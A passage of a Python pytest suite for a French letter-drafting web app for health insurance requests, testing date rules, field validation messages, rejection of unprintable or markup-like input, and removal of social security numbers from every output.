    ("typed", "sentence"),
    [
        ("22/11/2026", NO_SENDING),
        ("2027-01-01", NO_SENDING),
        ("31/12/9999", NO_SENDING),
        ("31/12/2017", NO_SENDING),
        ("1958-03-03", NO_SENDING),
        ("31/02/2026", "Indiquez une date qui existe, jour/mois/année, par exemple 03/03/2026."),
        ("hier", "Indiquez une date qui existe, jour/mois/année, par exemple 03/03/2026."),
    ],
)
def test_a_day_of_sending_that_cannot_be_gets_a_message(
    app: Flask, client: CheckingClient, typed: str, sentence: str
) -> None:
    for slug in SPEAKING:
        for outcome in ("silence", "refusal"):
            data = {**PERSON, "sent_on": typed, "outcome": outcome}
            response = app.test_client().post(address_of(slug), data=data)
            assert check_errors(response) == {"sent_on": sentence}
    for slug in OPPOSITIONS:  # asked on the result page, for the reminder
        response = post(client, "calendar", slug, sent_on=typed)
        assert sentences(parse(response.text)) == {"sent_on": sentence}
        assert heading_of(parse(response.text)) == "Votre lettre est prête"
        assert response.status_code == 422
        link = parse(response.text).select_one(".error-summary a")
        assert link is not None
        assert (link["href"], text_of(link)) == ("#sent_on", sentence)


@pytest.mark.parametrize("typed", ["21/11/2026", "01/01/2018"])
def test_the_first_and_the_last_day_of_sending_are_accepted(
    client: CheckingClient, typed: str
) -> None:
    for slug in SPEAKING:
        assert post(client, slug=slug, sent_on=typed, outcome="refusal").status_code == 200
    for slug in OPPOSITIONS:
        assert post(client, "calendar", slug, sent_on=typed).mimetype == "text/calendar"


@pytest.mark.parametrize("slug", LATER)
@pytest.mark.parametrize("typed", ["", " \u200b"])
def test_a_later_letter_needs_the_day_of_sending(
    client: CheckingClient, slug: str, typed: str
) -> None:
    for output in OUTPUTS:
        response = post(client, output, slug, sent_on=typed)
        if output != "edit":
            assert check_errors(response) == {"sent_on": NEED_SENDING}


def test_the_calendar_needs_the_day_of_sending(client: CheckingClient) -> None:
    for slug in (*OPPOSITIONS, INFORMATION):
        response = post(client, "calendar", slug)
        assert response.status_code == 422
        assert sentences(parse(response.text)) == {"sent_on": DAY_OF_POSTING}


DAY_OF_POSTING = "Indiquez le jour où vous envoyez la lettre, par exemple 03/03/2026."


@pytest.mark.parametrize(
    ("sent_on", "before", "day", "opens"),
    [
        ("21/10/2026", date(2026, 11, 20), fr("21~novembre 2026"), date(2026, 11, 21)),
        ("31/01/2026", date(2026, 2, 27), fr("28~février 2026"), date(2026, 2, 28)),
        ("31/01/2028", date(2028, 2, 28), fr("29~février 2028"), date(2028, 2, 29)),
        ("31/03/2026", date(2026, 3, 31), fr("30~avril 2026"), date(2026, 4, 30)),
        ("01/12/2026", date(2026, 12, 31), fr("1er~janvier 2027"), date(2027, 1, 1)),
    ],
)
@pytest.mark.parametrize("slug", LATER)
def test_silence_waits_for_the_end_of_the_month_and_says_until_when(
    client: CheckingClient,
    monkeypatch: pytest.MonkeyPatch,
    slug: str,
    sent_on: str,
    before: date,
    day: str,
    opens: date,
) -> None:
    monkeypatch.setattr("letters.web.routes.today", lambda: before)
    response = post(client, slug=slug, sent_on=sent_on)
    assert check_errors(response) == {"outcome": wait_until(day)}
    monkeypatch.setattr("letters.web.routes.today", lambda: opens)
    assert post(client, slug=slug, sent_on=sent_on).status_code == 200


@pytest.mark.parametrize("slug", LATER)
@pytest.mark.parametrize("output", [output for output in OUTPUTS if output != "edit"])
def test_no_output_goes_out_before_the_month_is_over(
    client: CheckingClient, slug: str, output: str
) -> None:
    response = post(client, output, slug, sent_on="22/10/2026")
    assert check_errors(response) == {"outcome": wait_until(fr("22~novembre 2026"))}
    assert "Content-Disposition" not in response.headers


def test_a_letter_that_is_added_waits_too(client: CheckingClient) -> None:
    response = post(client, "bundle", SANTE, sent_on="22/10/2026", also=RELANCE)
    assert check_errors(response) == {"outcome": wait_until(fr("22~novembre 2026"))}


@pytest.mark.parametrize("slug", LATER)
@pytest.mark.parametrize("outcome", ["refusal", "partial"])
def test_a_refusal_or_half_an_answer_opens_at_once(
    client: CheckingClient, slug: str, outcome: str
) -> None:
    answers = {"sent_on": "21/11/2026", "outcome": outcome, "answer_on": "21/11/2026"}
    assert post(client, slug=slug, **answers).status_code == 200


def test_a_letter_of_information_never_waits(client: CheckingClient) -> None:
    assert post(client, slug=INFORMATION, sent_on="21/11/2026").status_code == 200


@pytest.mark.parametrize(
    ("typed", "right"),
    [
        ("01/10/2026", True),
        ("21/11/2026", True),
        ("", True),
        ("30/09/2026", False),
        ("22/11/2026", False),
    ],
)
def test_an_answer_and_a_follow_up_come_after_the_letter_and_before_tomorrow(
    client: CheckingClient, typed: str, right: bool
) -> None:
    for slug, name in ((RELANCE, "answer_on"), (PLAINTE, "answer_on"), (PLAINTE, "followed_up_on")):
        response = post(client, slug=slug, **SENT, outcome="refusal", **{name: typed})
        if right:
            assert response.status_code == 200
        else:
            assert check_errors(response) == {name: NOT_BETWEEN}


def test_an_answer_without_a_day_of_sending_is_still_not_in_the_future(
    client: CheckingClient,
) -> None:
    answers = {"outcome": "refusal", "answer_on": "22/11/2026"}
    wanted = {"sent_on": NEED_SENDING, "answer_on": NOT_BETWEEN}
    assert check_errors(post(client, slug=RELANCE, **answers)) == wanted


@pytest.mark.parametrize("outcome", OUTCOMES)
def test_what_came_of_the_letter_is_told_and_the_day_of_no_answer_is_not(
    client: CheckingClient, outcome: str
) -> None:
    sentence = {
        "silence": "Un mois après cet envoi, je n’ai reçu ni réponse",
        "refusal": "Par votre réponse du 20 octobre 2026, vous n’avez pas fait droit",
        "partial": "Votre réponse du 20 octobre 2026 ne répond qu’en partie",
    }
    text = post(client, slug=RELANCE, **everything("self", outcome=outcome)).text
    letter = " ".join(letter_of(text)).replace("\u00a0", " ")
    for name, words in sentence.items():
        assert (words in letter) == (name == outcome)
    assert ("20 octobre 2026" in letter) == (outcome != "silence")


@pytest.mark.parametrize("channel", ["", *CHANNELS])
def test_the_way_it_was_sent_is_told_when_it_is_known(client: CheckingClient, channel: str) -> None:
    words = {"ameli": "messagerie", "post": "courrier postal", "email": "courriel"}
    words |= {"hand": "remise en main propre"}
    letter = " ".join(letter_of(post(client, slug=RELANCE, **SENT, channel=channel).text))
    assert set(words) == set(CHANNELS)
    for name, way in words.items():
        assert (f"mode d’envoi\u00a0: {way}" in letter) == (name == channel)


# Errors


LONG_NAME = "é" * 101
SHORTEN = "Raccourcissez ce texte~: {} caractères au plus, il en a {}."
NAME_SIGN = (
    "Retirez ou remplacez {}. Écrivez ce nom en lettres latines, grecques ou cyrilliques, tel "
    "qu’il figure sur la carte Vitale."
)
SIGN = "Retirez ou remplacez {}~: la lettre imprimée ne peut pas le montrer."
LETTER = "Écrivez ce nom avec au moins une lettre, par exemple Camille."
MARKS = "Gardez au plus trois accents sur un même caractère."
SPACES = "Ajoutez des espaces~: un mot a plus de 100 caractères."
NO_DAY = "Indiquez une date qui existe, jour/mois/année, par exemple 03/03/2026."
NO_BIRTH = "Indiquez une date entre 1900 et aujourd’hui, par exemple 03/03/1958."
FIVE = "Indiquez votre code postal~: 5 chiffres, par exemple 29200."
EMAIL = "Indiquez une adresse comme camille.durand@example.org."
FEWER = "Gardez au plus {} lignes~: il y en a {}."
SHORT_LINE = "Raccourcissez la ligne «~{}~»~: 38 caractères au plus, elle en a {}."
BODY = "Choisissez votre caisse dans la liste, ou «~Autre organisme~»."
FOR_WHOM = "Choisissez pour qui vous écrivez."
WHICH = "Choisissez dans la liste la lettre que vous avez envoyée."
WHAT_CAME = "Choisissez ce qui s’est passé depuis votre lettre."
HOW_SENT = "Choisissez comment vous avez envoyé la lettre, ou ne répondez pas."

BAD = [
    ("who", "", FOR_WHOM),
    ("who", "moi", FOR_WHOM),
    ("who", "represented", FOR_WHOM),
    ("given_name", "", "Indiquez votre prénom, par exemple Camille."),
    ("given_name", " \u200b\t", "Indiquez votre prénom, par exemple Camille."),
    ("given_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("given_name", "Jo字hn", NAME_SIGN.format("«~字~»")),
    ("given_name", "محمد", NAME_SIGN.format("«~م~», «~ح~» et «~د~»")),
    ("given_name", "R2-D2", NAME_SIGN.format("«~2~»")),
    ("given_name", "Zoé😀", NAME_SIGN.format("«~😀~»")),
    ("given_name", "Zo\x07é", NAME_SIGN.format("«~\ufffd~»")),
    ("given_name", "@#$%&*+", NAME_SIGN.format("«~@~», «~#~», «~$~», «~%~» et «~&~»")),
    ("given_name", "-", LETTER),
    ("given_name", "’ . –", LETTER),
    ("given_name", "Zo\u0301\u0302\u0303\u0304e", MARKS),
    ("family_name", "", "Indiquez votre nom, par exemple Durand."),
    ("family_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("family_name", "Durand <b>", NAME_SIGN.format("«~<~» et «~>~»")),
    ("family_name", "((name))", NAME_SIGN.format("«~(~» et «~)~»")),
    ("family_name", "...", LETTER),
    ("represented_given_name", "", NEED_GIVEN),
    ("represented_given_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("represented_given_name", "Lé字o", NAME_SIGN.format("«~字~»")),
    ("represented_given_name", "...", LETTER),
    ("represented_family_name", "", NEED_FAMILY),
    ("represented_family_name", "Martin 2", NAME_SIGN.format("«~2~»")),
    ("represented_family_name", LONG_NAME, SHORTEN.format(100, 101)),
    ("represented_family_name", "Ma\u0301\u0302\u0303\u0304", MARKS),
    ("represented_birth_date", "31/02/2015", NO_DAY),
    ("represented_birth_date", "22/11/2026", NO_BIRTH),
    ("represented_birth_date", "3" * 21, SHORTEN.format(20, 21)),
    ("represented_birth_date", "2015字", SIGN.format("«~字~»")),
    ("measure", "", NEED_MEASURE),
    ("measure", "x" * 61, SHORTEN.format(60, 61)),
    ("measure", "tutelle 字", SIGN.format("«~字~»")),
    ("measure", "\x07", SIGN.format("«~\ufffd~»")),
    ("first_letter", "absente", WHICH),
    ("first_letter", "relance", WHICH),
    ("first_letter", "", WHICH),
    ("sent_on", "", NEED_SENDING),
    ("sent_on", "31/02/2026", NO_DAY),
    ("sent_on", "字" * 30, NO_DAY),
    ("sent_on", "22/11/2026", NO_SENDING),
    ("sent_on", "31/12/2017", NO_SENDING),
    ("channel", "pigeon", HOW_SENT),
    ("outcome", "", WHAT_CAME),
    ("outcome", "accepted", WHAT_CAME),
    ("answer_on", "fin octobre", NO_DAY),
    ("answer_on", "30/09/2026", NOT_BETWEEN),
    ("answer_on", "22/11/2026", NOT_BETWEEN),
    ("answer_on", "2" * 21, SHORTEN.format(20, 21)),
    ("answer_on", "字", SIGN.format("«~字~»")),
    ("followed_up_on", "31/11/2026", NO_DAY),
    ("followed_up_on", "30/09/2026", NOT_BETWEEN),
    ("followed_up_on", "2" * 21, SHORTEN.format(20, 21)),
    ("followed_up_on", "字", SIGN.format("«~字~»")),
    ("recipient", "", BODY),
    ("recipient", "99999", BODY),
    ("recipient_lines", "\n".join("abcdefg"), FEWER.format(6, 7)),
    ("recipient_lines", "x" * 39, SHORT_LINE.format("x" * 39, 39)),
    ("recipient_lines", "CPAM\n" + "y" * 80, SHORT_LINE.format("y" * 60, 80)),
    ("recipient_lines", "CPAM 字", SIGN.format("«~字~»")),
    ("missing", "mot " * 125 + "x", SHORTEN.format(500, 501)),
    ("missing", "Voir 字", SIGN.format("«~字~»")),
    ("missing", "\n".join("abcdefghijklmnopqrstu"), FEWER.format(20, 21)),
    ("plateforme_lines", "\n".join("abcdefg"), FEWER.format(6, 7)),
    ("plateforme_lines", "x" * 39, SHORT_LINE.format("x" * 39, 39)),
    ("plateforme_lines", "PDS 字", SIGN.format("«~字~»")),
    ("cnil_lines", "\n".join("abcdefg"), FEWER.format(6, 7)),
    ("cnil_lines", "CNIL\n" + "y" * 80, SHORT_LINE.format("y" * 60, 80)),
    ("cnil_lines", "CNIL 字", SIGN.format("«~字~»")),
    ("birth_date", "31/02/1958", NO_DAY),
    ("birth_date", "29/02/1959", NO_DAY),
    ("birth_date", "1958", NO_DAY),
    ("birth_date", "mars 1958", NO_DAY),
    ("birth_date", "03/03/58", NO_DAY),
    ("birth_date", "00/00/0000", NO_DAY),
    ("birth_date", "22/11/2026", NO_BIRTH),
    ("birth_date", "31/12/1899", NO_BIRTH),
    ("birth_date", "3" * 21, SHORTEN.format(20, 21)),
    ("birth_date", "03/03/1958字", SIGN.format("«~字~»")),
    ("address_line1", "x" * 39, SHORTEN.format(38, 39)),
    ("address_line1", "12 rue 字", SIGN.format("«~字~»")),
    ("address_line2", "x" * 39, SHORTEN.format(38, 39)),
    ("address_line2", "\x1b[31m", SIGN.format("«~\ufffd~»")),
    ("postal_code", "2920", FIVE),
    ("postal_code", "292000", FIVE),
    ("postal_code", "B-1000", FIVE),
    ("postal_code", "Brest", FIVE),
    ("postal_code", "٢٩٢٠٠", SIGN.format("«~٢~», «~٩~» et «~٠~»")),
    ("postal_code", "B" * 13, SHORTEN.format(12, 13)),
    ("city", "x" * 51, SHORTEN.format(50, 51)),
    ("city", "北京", SIGN.format("«~北~» et «~京~»")),
    ("country", "x" * 39, SHORTEN.format(38, 39)),
    ("country", "中国", SIGN.format("«~中~» et «~国~»")),
    ("email", "camille", EMAIL),
    ("email", "@example.org", EMAIL),
    ("email", "camille@", EMAIL),
    ("email", "camille@example", EMAIL),
    ("email", "camille@.org.", EMAIL),
    ("email", "a@b@example.org", EMAIL),
    ("email", "camille durand@example.org", EMAIL),
    ("email", "x" * 89 + "@example.org", SHORTEN.format(100, 101)),
    ("email", "字@example.org", SIGN.format("«~字~»")),
    ("reason", "mot " * 375 + "x", SHORTEN.format("1\u202f500", "1\u202f501")),
    ("reason", "x" * 101, SPACES),
    ("reason", "Voir 字", SIGN.format("«~字~»")),
    ("reason", "e\u0301\u0302\u0303\u0304", MARKS),
    ("reason", "\n".join("abcdefghijklmnopqrstu"), FEWER.format(20, 21)),
]


def typed_again(name: str, value: str) -> str:
    """What the form should show: the answer, cleaned by the rules that a person sees."""
    if name in {*CHOICES, "recipient"}:
        return ""
    if name == "first_letter":
        return SANTE  # what a browser shows of a list where nothing is chosen
    text = re.sub(r"[\x07\x1b]", "\ufffd", value).strip(" \u200b\t")
    return unicodedata.normalize("NFC", text)


def asked_of(name: str) -> tuple[str, str]:
    """The first letter that asks for a field, and for whom."""
    pairs = product(SLUGS, WHO)
    return next(pair for pair in pairs if name in asked(*pair, outcome="partial"))


@pytest.mark.parametrize(("name", "value", "sentence"), BAD)
@pytest.mark.rule(2, 3, 5, 6, 8)
def test_a_bad_answer_gets_a_sentence_that_says_what_to_do_and_all_are_kept(
    app: Flask, name: str, value: str, sentence: str
) -> None:
    slug, who = asked_of(name) if name != "sent_on" else (RELANCE, "self")
    whole = {**whole_of(slug, who), "options": [*OPTIONS_OF[slug][1:3]]}
    if name == "sent_on":
        whole["answer_on"] = ""  # it is compared with that day
    answers = {**whole, name: value.replace("\n", "\r\n")}
    response = app.test_client().post(address_of(slug), data=answers)
    assert check_errors(response) == {name: fr(sentence)}
    kept = shown(response.text)
    for key, wanted in {**whole, name: typed_again(name, value)}.items():
        assert kept[key] == (wanted if key == "options" else wanted.replace("\r\n", "\n")), key


@pytest.mark.parametrize(("slug", "who", "first"), STATES)
def test_every_bad_answer_gets_its_sentence_in_every_letter(
    slug: str, who: str, first: str
) -> None:
    """Without the pages: what they make of an error is tried above and below."""
    right, names = everything(who, first), asked(slug, who, first, "partial")
    loaded = load_content(Settings())
    context = Context(loaded.catalogue.wordings[slug], loaded, TODAY)
    tried = set()
    for name, value, sentence in BAD:
        if name in names:
            compared = {"answer_on": "", "followed_up_on": ""} if name == "sent_on" else {}
            form = LetterForm(context, MultiDict({**right, **compared, name: value}))
            if slug == INFORMATION and name == "sent_on" and not value:
                assert form.validate()  # it may be left out there
                continue
            assert not form.validate(), (name, value)
            assert form.errors.keys() == {name}
            assert form.errors[name][0] == fr(sentence)
            tried.add(name)
    assert tried == names


@pytest.mark.parametrize("output", [output for output in OUTPUTS if output != "edit"])
@pytest.mark.parametrize("slug", SLUGS)
def test_no_output_is_made_from_a_bad_answer(
    client: CheckingClient, slug: str, output: str
) -> None:
    response = post(client, output, slug, **SENT, family_name="", city="字")
    assert check_errors(response) == {
        "family_name": "Indiquez votre nom, par exemple Durand.",
        "city": fr(SIGN.format("«~字~»")),
    }
    assert "Content-Disposition" not in response.headers


def test_nothing_is_added_to_a_bundle_from_a_bad_answer(client: CheckingClient) -> None:
    response = post(client, "bundle", PLATEFORME, recipient="", also=[SANTE])
    assert check_errors(response) == {"recipient": fr(BODY)}
    assert heading_of(parse(response.text)) == CATALOGUE.wordings[SANTE].title


@pytest.mark.parametrize(("slug", "who", "first"), STATES)
def test_all_errors_are_told_at_once_in_the_order_of_the_form(
    client: CheckingClient, slug: str, who: str, first: str
) -> None:
    wrong: dict[str, tuple[str, str]] = {}
    for name, value, sentence in BAD:
        if name in asked(slug, who, first, "partial") - {"who", "first_letter", "outcome"}:
            wrong.setdefault(name, (value, sentence))
    wrong["postal_code"] = ("B" * 13, SHORTEN.format(12, 13))  # a country excuses the other one
    if slug == INFORMATION:
        wrong["sent_on"] = ("hier", NO_DAY)  # it may be left out there
    answers = {name: value for name, (value, _) in wrong.items()}
    answers |= {"who": who, "first_letter": first, "outcome": "partial"}
    response = client.post(address_of(slug), data=answers)
    assert check_errors(response) == {name: fr(sentence) for name, (_, sentence) in wrong.items()}
    page = parse(response.text)
    links = [str(link["href"])[1:] for link in page.select(".error-summary a")]
    order = [str(tag["id"]) for tag in main_form(response.text).select("[id]")]
    assert links == sorted(links, key=order.index)
    kept = shown(response.text)
    for name, (value, _) in wrong.items():
        assert kept[name] == typed_again(name, value)


@pytest.mark.parametrize(("slug", "who", "first"), STATES)
def test_a_field_in_error_is_never_folded_away(app: Flask, slug: str, who: str, first: str) -> None:
    names = asked(slug, who, first, "partial")
    answers = {**PERSON, **dict.fromkeys(names & {*TEXTS}, "字"), "recipient": "99999"}
    answers |= {"who": who, "first_letter": first, "outcome": "partial"}
    page = parse(app.test_client().post(address_of(slug), data=answers).text)
    assert sentences(page).keys() == names & {*TEXTS, "recipient"}
    assert page.select("details:not([open]) [aria-invalid]") == []


@pytest.mark.rule(8)
def test_the_table_covers_every_field_and_every_sentence_of_the_form() -> None:
    """A new message of the form's modules that no row of `BAD` gives makes this fail."""
    assert {name for name, *_ in BAD} == FIELDS - {"options", *NEVER_SHOWN}
    said = [fr(sentence) for *_, sentence in BAD]
    said += [NEEDED_LINES, TOO_OLD, NOT_15_TO_17, wait_until("x"), DAY_OF_POSTING]
    said += [NIR_TAKEN_OUT, NIR_MESSAGE.removeprefix(f"{NIR_TAKEN_OUT} ")]
    templates = error_templates()
    assert len(templates) >= 30
    for template in templates:
        pattern = re.sub(r"%\\?\(\w+\\?\)[sd]", ".+", re.escape(template)).replace(r"\ ", ".")
        assert any(re.fullmatch(pattern, sentence) for sentence in said), template


def error_templates() -> set[str]:
    """Every message of the forms that is no label, no hint and no choice: it refuses an answer."""
    declared = [field for form in FollowUpForm.__mro__ for field in vars(form).values()]
    labels = {
        text
        for field in declared
        if hasattr(field, "field_class")
        for text in texts_in([*field.args, field.kwargs.get("description", "")])
    }
    labels |= {"5 chiffres, par exemple 29200.", "« %(sign)s »"}  # declared in fields.py
    modules = (forms, fields, questions)
    return {text for module in modules for text in messages_of(module.__file__)} - labels


def texts_in(values: Any) -> Iterator[str]:
    for value in values:
        if isinstance(value, str):
            yield value
        elif isinstance(value, list | tuple):
            yield from texts_in(value)


def messages_of(file: str | None) -> Iterator[str]:
    """The messages of a module, without those of the list of bodies."""
    tree = ast.parse(Path(str(file)).read_text(encoding="utf-8"))
    offered = {
        id(node)
        for top in ast.walk(tree)
        if isinstance(top, ast.FunctionDef) and top.name == "recipient_choices"
        for node in ast.walk(top)
    }
    for node in ast.walk(tree):
        if is_call(node, "_", "mark") and id(node) not in offered:
            assert isinstance(node, ast.Call)
            if isinstance(node.args[0], ast.Constant):
                yield str(node.args[0].value)


def is_call(node: ast.AST, *names: str) -> bool:
    called = isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
    return called and node.func.id in names


def refused_in_every_text(client: CheckingClient, text: str) -> Iterator[TestResponse]:
    """The pages of all letters with `text` in all that they ask for."""
    for slug, first in ((SANTE, SANTE), (PLAINTE, PLATEFORME), (PLAINTE, SOIGNANT)):
        for who in ("self", "protected"):
            answers = {**whole_of(slug, who, first), **dict.fromkeys(TEXTS, text)}
            response = client.post(address_of(slug), data=answers)
            names = asked(slug, who, first, "partial") & {*TEXTS}
            assert set(check_errors(response)) == names
            yield response


@pytest.mark.parametrize("control", ["\x00", "\x01", "\x08", "\x1b", "\x1f", "\x7f", "\x9f"])
@pytest.mark.check(20)
def test_a_control_character_is_refused_in_every_text_and_never_comes_back(
    client: CheckingClient, control: str
) -> None:
    for response in refused_in_every_text(client, f"ab{control}cd"):
        found = sentences(parse(response.text))
        assert all("«\u00a0\ufffd\u00a0»" in found[name] for name in set(found) - {"sent_on"})
        assert control not in response.text


@pytest.mark.parametrize("sign", "字ش😀⛪")
@pytest.mark.rule(12)
@pytest.mark.check(20)
def test_what_the_font_lacks_is_refused_and_named_in_every_text(
    client: CheckingClient, sign: str
) -> None:
    for response in refused_in_every_text(client, f"ab{sign}"):
        found = sentences(parse(response.text))
        assert all(f"«\u00a0{sign}\u00a0»" in found[name] for name in set(found) - {"sent_on"})
        assert all("carte Vitale" in found[name] for name in set(found) & {*NAMES})


@pytest.mark.parametrize(
    "name",
    [
        "Nguyễn Thị Ánh",
        "Łukasz Żółć",
        "Gwenaël Le Bihan-L’Hénoret",
        "Tuğba Şahin",
        "Ħamrun Ġorġ",
        "Ɛli Aɣilas",
        "Αλέξανδρος",
        "Юрий",
        "O'Neil d‘Arc ʻOkina",
        "Ô",
        "Anne  Marie",
        "Jean.",
    ],
)
@pytest.mark.parametrize("field", NAMES)
@pytest.mark.rule(12)
def test_every_name_in_the_three_alphabets_is_accepted(
    stranger: CheckingClient, field: str, name: str
) -> None:
    response = post(stranger, **{**WHOSE["child"], field: name})
    assert response.status_code == 200
    sender = parse(response.text).select_one("article#letter .sender")
    assert re.sub(" +", " ", name) in text_of(sender)


@pytest.mark.parametrize("slug", SLUGS)
def test_the_longest_answers_are_accepted(client: CheckingClient, slug: str) -> None:
    answers = {"given_name": "é" * 100, "family_name": "W" * 100, "reason": ("x" * 99 + " ") * 14}
    answers |= {"represented_given_name": "é" * 100, "represented_family_name": "W" * 100}
    answers |= {"who": "protected", "measure": "é" * 60, **SENT}
    answers |= {"address_line1": "é" * 38, "address_line2": "é" * 38, "city": "é" * 50}
    answers |= {"email": "x" * 88 + "@example.org", "country": "é" * 38, "postal_code": "1" * 12}
    answers |= {"recipient": OTHER} | dict.fromkeys(AREAS[:3], "\r\n".join(["é" * 38] * 6))
    for output in ("preview", "text", "short", "edit"):
        assert post(client, output, slug, **answers).status_code == 200


# The social security number

NIR = "1 85 05 75 123 456 78"
DIGITS = "185057512345678"
NIR_TAKEN_OUT = (
    "Ce texte contenait ce qui ressemble à un numéro de sécurité sociale. "
    "Nous l’avons retiré\u00a0: ce site ne doit jamais le recevoir."
)
NIR_MESSAGE = f"{NIR_TAKEN_OUT} Vous pourrez l’écrire à la main sur la lettre imprimée."


def about_number(slug: str) -> str:
    """Only a letter to a fund has a line for it."""
    return NIR_MESSAGE if slug == SANTE else NIR_TAKEN_OUT


def has_number(response: TestResponse) -> bool:
    text = response.data.decode(errors="replace")  # a zip is no text
    return DIGITS[:13] in re.sub(r"[\W_]", "", text)


@pytest.mark.parametrize("number", [NIR, DIGITS, DIGITS[:13], "2-91-12-2A-123-456-78"])
@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.check(27)
def test_a_number_of_social_security_never_comes_back_from_any_text(
    stranger: CheckingClient, caplog: pytest.LogCaptureFixture, output: str, number: str
) -> None:
    caplog.set_level(0)
    slug = SLUGS[OUTPUTS.index(output) % len(SLUGS)]
    first = SANTE if slug not in SPEAKING else PLATEFORME
    texts = asked(slug, "protected", first, "partial") & {*TEXTS}
    answers = {**everything("protected", first), **dict.fromkeys(texts, f"ab {number} cd")}
    response = stranger.post(address_of(slug), data={**answers, "output": output})
    assert check_errors(response) == dict.fromkeys(texts, about_number(slug))
    assert not has_number(response)
    assert "123456" not in re.sub(r"\W", "", response.text)
    values = shown(response.text)
    assert {values[name] for name in texts} == {"ab … cd"}
    assert "123" not in caplog.text


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize("name", [*TEXTS, *NEVER_SHOWN])
def test_a_number_in_any_text_is_enough_to_refuse_any_letter(
    app: Flask, slug: str, name: str
) -> None:
    """Whether the letter asks for it or not; where it does not, there is no field to go to."""
    for output in ("bundle", "preview"):
        data = {**everything("protected"), name: f"ab {NIR} cd", "output": output}
        response = app.test_client().post(address_of(slug), data=data)
        assert response.status_code == 422
        assert not has_number(response)
    summary = parse(response.text).select_one(".error-summary")
    assert summary is not None
    assert text_of(summary).endswith(f" – {about_number(slug)}")
    links = [str(link["href"]) for link in summary.select("a")]
    assert links == ([f"#{name}"] if name in PRINTED[slug] else [])
    if slug in {PLATEFORME, SOIGNANT} and name in HISTORY:  # told of another letter
        assert name not in posted(response.text)
    elif name != "shown_lines":  # it says what the form shows, which is another one now
        assert posted(response.text)[name] == "ab … cd"


@pytest.mark.parametrize("name", ["postal_code", "birth_date", "family_name", "recipient_lines"])
def test_a_number_alone_in_a_field_is_refused_as_one(client: CheckingClient, name: str) -> None:
    response = post(client, **{name: NIR})
    assert check_errors(response) == {name: NIR_MESSAGE}
    assert shown(response.text)[name] == "…"


def test_a_number_taken_out_while_editing_is_explained(client: CheckingClient) -> None:
    """« Voir et corriger l’adresse » takes it out as well; the person has to know."""
    response = post(client, "edit", reason=f"Mon numéro est le {NIR}.")
    assert check_errors(response) == {"reason": NIR_MESSAGE}


def test_a_number_is_found_in_an_address_that_moves_to_another_field(
    client: CheckingClient,
) -> None:
    response = post(client, slug=PLATEFORME, recipient_lines=named("PDS", NIR))
    assert response.status_code == 422
    assert NIR_TAKEN_OUT in text_of(parse(response.text).select_one(".error-summary"))
    assert not has_number(response)


@pytest.mark.parametrize("slug", SLUGS)
def test_a_number_outside_the_texts_does_not_come_back_either(app: Flask, slug: str) -> None:
    names = ["recipient", "output", "unknown", "options", "who", "channel", "outcome"]
    names += ["first_letter", "also", "lines_for", "shown", "large"]
    for name, output in product(names, ("preview", "edit", "bundle")):
        data = {**PERSON, **SENT, "output": output, name: NIR}
        assert not has_number(app.test_client().post(address_of(slug), data=data))


def test_several_numbers_in_several_fields_are_all_taken_out(client: CheckingClient) -> None:
    response = post(client, reason=f"{NIR}\r\n{NIR}", city=NIR, email=f"{DIGITS}@example.org")
    assert set(check_errors(response)) == {"reason", "city", "email"}
    assert not has_number(response)


# The form's own fields are the state


def browser_round_trip(client: CheckingClient, slug: str, answers: dict[str, Any]) -> None:
    """What the buttons of a result page give is what the form itself would have given."""
    preview = client.post(address_of(slug), data=answers)
    assert preview.status_code == 200
    for output in ("text", "short", "preview", "edit"):
        again = client.post(address_of(slug), data=posted(preview.text, output=output))
        direct = client.post(address_of(slug), data={**answers, "output": output})
        if output == "edit":  # the day of sending, filled in by the result page, is hidden there
            assert shown(again.text) == shown(direct.text)
        else:
            assert again.data == direct.data


@pytest.mark.parametrize("slug", SLUGS)
@pytest.mark.parametrize(
    "answers",
    [
        {**PERSON, **SENT},
        {**WHOLE, **SENT},
        everything("child", SOIGNANT),
        everything("protected", PLATEFORME, options=["deces", "penal", "caisse", "logiciel"]),
        {**WHOLE, **SENT, "options": [], "country": "Belgique", "postal_code": "B-1000"},
        {**PERSON, **SENT, "recipient": OTHER, "recipient_lines": "MSA\r\n29412 Landerneau"},
        {**PERSON, **SENT, "reason": '"Guillemets" & <chevrons>\r\n\r\n  ((name)) [si cnil] ’'},
        {**PERSON, **SENT, "reason": "\r\n\r\nLigne\r\n\r\n\r\n\r\nLigne\r\n"},
    ],
)
def test_the_result_page_carries_every_answer(
    stranger: CheckingClient, slug: str, answers: dict[str, Any]
) -> None:
    browser_round_trip(stranger, slug, answers)


@pytest.mark.parametrize("slug", SLUGS)
def test_the_pdf_is_the_same_from_the_form_and_from_the_result_page(
    client: CheckingClient, slug: str
) -> None:
    answers = {**WHOLE, **(SENT if slug in LATER else {})}
    result = client.post(address_of(slug), data=answers).text
    direct = client.post(address_of(slug), data={**answers, "output": "pdf"})
    assert direct.data.startswith(b"%PDF-")
    assert client.post(address_of(slug), data=posted(result, output="pdf")).data == direct.data


@pytest.mark.parametrize(("slug", "who", "first"), STATES)
@pytest.mark.rule(15)
def test_the_form_edited_and_sent_again_gives_the_same_letter(
    app: Flask, slug: str, who: str, first: str
) -> None:
    client = app.test_client()
    answers = everything(who, first, options=[*OPTIONS_OF[slug]])
    edited = client.post(address_of(slug), data={**answers, "output": "edit"}).text
    again = client.post(address_of(slug), data=posted(edited))
    assert letter_of(again.text) == letter_of(client.post(address_of(slug), data=answers).text)


names = st.text(sorted(fields.NAME_CHARACTERS), min_size=1, max_size=20)
prose = st.text(sorted(fields.LETTERS | set(" \n\"'<>&;{}()[]%\\$é…’\u00a0\u202f")), max_size=80)


@bounded
@given(
    slug=st.sampled_from(SLUGS),
    who=st.sampled_from(WHO),
    first=st.sampled_from(OPPOSITIONS),
    typed=st.fixed_dictionaries(dict.fromkeys(NAMES, names) | {"reason": prose, "city": prose}),
    ticked=st.sets(st.sampled_from(EVERY_OPTION)),
)
def test_any_accepted_answers_survive_the_round_trip(
    app: Flask, slug: str, who: str, first: str, typed: dict[str, str], ticked: set[str]
) -> None:
    client = app.test_client()
    typed["reason"] = typed["reason"].replace("\n", "\r\n")
    answers = everything(who, first, **typed, options=sorted(ticked))
    preview = client.post(address_of(slug), data=answers)
    if preview.status_code == 422:
        assert sentences(parse(preview.text))
        return
